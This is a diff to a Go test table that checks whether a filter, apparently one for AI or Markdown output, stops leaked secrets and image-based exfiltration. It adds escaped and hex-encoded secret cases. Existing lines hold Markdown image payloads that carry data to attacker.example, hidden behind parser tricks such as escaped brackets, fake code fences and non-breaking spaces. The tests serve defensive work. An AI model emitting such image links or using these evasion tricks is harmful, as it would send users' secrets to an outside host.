@@ -59,6 +59,12 @@ var attempts = []attempt{
 	{name: "secret", title: "a secret in a result", text: func(seed string) string { return "token: " + secret(seed) }, through: func(got, sent string) bool {
 		return strings.Contains(got, strings.TrimPrefix(sent, "token: "))
 	}},
+	{name: "secret-escaped", title: "a secret as Markdown escapes it", text: func(seed string) string { return "token: " + strings.ReplaceAll(secret(seed), "_", `\_`) }, through: func(got, sent string) bool {
+		return strings.Contains(got, sent[len(sent)-30:])
+	}},
+	{name: "secret-bytes", title: "a secret byte by byte, in hex", text: func(seed string) string { return "token: " + strings.TrimSpace(fmt.Sprintf("% x", secret(seed))) }, through: func(got, sent string) bool {
+		return strings.Contains(got, sent[len(sent)-60:])
+	}},
 	{name: "label", title: "an image behind a label that parsers read differently", text: fixed(`![a\]b](https://attacker.example/p.png?d=data)`), through: holds("](https://attacker")},
 	{name: "fence", title: "an image behind what looks like a fence, and is none", text: fixed("- a\n  ```\n![x](https://attacker.example/p.png?d=data)"), through: holds("](https://attacker")},
 	{name: "space", title: "an image behind white space that renderers drop", text: fixed("![status](\u00a0https://attacker.example/p.png?d=data)"), through: holds("](\u00a0https")},
